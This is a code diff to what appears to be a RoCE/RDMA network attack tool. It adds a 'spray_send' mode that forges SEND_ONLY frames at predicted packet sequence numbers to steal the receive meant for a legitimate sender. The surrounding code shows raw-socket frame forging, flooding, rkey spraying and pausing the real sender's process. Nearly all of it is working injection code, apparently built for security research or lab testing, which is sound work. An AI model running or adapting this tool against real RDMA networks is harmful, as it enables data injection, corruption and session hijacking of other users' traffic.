@@ -179,6 +179,17 @@ def spray(live: Live, target: str, count: int, bad_rkey: bool) -> list:
     return [write_only(live, target, sport, qpn, psn + i, va, rkey, data) for i in range(1, count + 1)]
 
 
+def spray_send(live: Live, target: str, count: int, length: int) -> list:
+    """SEND_ONLYs at the PSNs just past the newest seen, ascending: one lands on the PSN the
+    target expects and takes the receive meant for the live sender's message (RoCE cannot
+    tell); its bytes are recognisable, never a pattern perf writes."""
+    t = live.newest()
+    qpn, psn, sport = t[BTH].dqpn, t[BTH].psn, t[UDP].sport
+    body, pad = padded(b"\xEE" * length)
+    return [frame(live, target, sport, bth(SEND_ONLY, qpn, psn + i, pad), body)
+            for i in range(1, count + 1)]
+
+
 class Wire:
     """An AF_PACKET socket on the interface: frames leave exactly as built."""
 
@@ -232,6 +243,8 @@ def attack(args, kinds, live) -> None:
             continue
         if kind in ("spray_bad_rkey", "spray_replace"):
             frames = spray(live, args.target, args.spray, kind == "spray_bad_rkey")
+        elif kind == "spray_send":
+            frames = spray_send(live, args.target, args.spray, args.spray_len)
         else:
             frames = forge(kind, live, args.target)
         every.extend(frames)
@@ -297,6 +310,7 @@ def main() -> None:
     r.add_argument("--flood-seconds", type=float, default=3.0)
     r.add_argument("--learn-seconds", type=float, default=10.0)
     r.add_argument("--spray", type=int, default=2000)
+    r.add_argument("--spray-len", type=int, default=64, help="payload bytes of each spray_send SEND")
     r.add_argument("--roce-port", type=int, default=ROCE_PORT, help="the run's RoCE UDP port")
     r.add_argument("--pause-pid", type=int, default=0,
                    help="stop this process (the live sender) from learning to the end of the attack")
